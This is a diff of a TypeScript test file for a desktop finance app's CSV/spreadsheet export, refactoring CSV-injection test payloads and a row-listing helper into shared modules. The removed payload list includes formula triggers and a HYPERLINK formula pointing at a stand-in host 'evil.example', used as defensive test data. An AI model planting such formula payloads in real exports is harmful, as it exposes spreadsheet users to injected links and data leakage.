@@ -13,15 +13,12 @@ import type { EventName, EventPayload } from '../../electron/shared/contract.ts'
 import type { ExportProgress, ExportResult } from '../../electron/shared/exports.ts';
 import type { CategorySummary } from '../../electron/shared/categories.ts';
 import type { CashFlow } from '../../electron/shared/reports.ts';
-import type {
-  TransactionFilters,
-  TransactionPage,
-  TransactionRow,
-  TransactionTotals,
-} from '../../electron/shared/transactions.ts';
+import type { TransactionFilters, TransactionRow, TransactionTotals } from '../../electron/shared/transactions.ts';
+import { formulaPayloads } from '../fixtures/formula-payloads.ts';
 import { generateProviderTransactions } from '../fixtures/provider-transactions.ts';
 import { seedTwoAccounts } from '../fixtures/seed.ts';
 import { handlerSession } from '../support/handler-session.ts';
+import { screenRows as listedRows } from '../support/screen-rows.ts';
 import { convertWithLibreOffice } from '../support/libreoffice.ts';
 import { makeTempDir } from '../support/temp-dir.ts';
 
@@ -34,19 +31,7 @@ function csvRecords(input: Buffer, options: CsvOptions): string[][] {
   return records as string[][];
 }
 
-/** Text a spreadsheet would run as a formula (OWASP's CSV injection triggers). */
-const payloads = [
-  ' =1+1',
-  '\u00a0+1',
-  '\uff1d1+1',
-  '=1+1',
-  '+1',
-  '-1',
-  '@SUM(A1)',
-  '\tTAB',
-  '\rCR',
-  '=HYPERLINK("http://evil.example/?x","clique")',
-];
+const payloads: readonly string[] = formulaPayloads;
 /** What a spreadsheet may run: a sign first, behind any blanks (fullwidth signs too), or a tab or CR. */
 const trigger = /^[\s\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;
 
@@ -130,21 +115,7 @@ function exportTo<T = unknown>(path: string, channel: string, input: unknown): P
   return session.call<T>(channel, input);
 }
 
-/** What the Transactions screen lists for the filters, oldest first: the rows every file must hold. */
-async function screenRows(filters: TransactionFilters): Promise<TransactionRow[]> {
-  const rows: TransactionRow[] = [];
-  for (let offset = 0; ; offset += 1000) {
-    const page = await session.call<TransactionPage>('transactions:list', {
-      filters,
-      sort: 'date',
-      descending: false,
-      offset,
-      limit: 1000,
-    });
-    rows.push(...page.rows);
-    if (page.rows.length < 1000) return rows;
-  }
-}
+const screenRows = (filters: TransactionFilters) => listedRows(session, filters);
 
 const cents = (text: string, point: '.' | ',') => {
   expect(text).toMatch(point === ',' ? /^-?\d+,\d{2}$/ : /^-?\d+\.\d{2}$/);
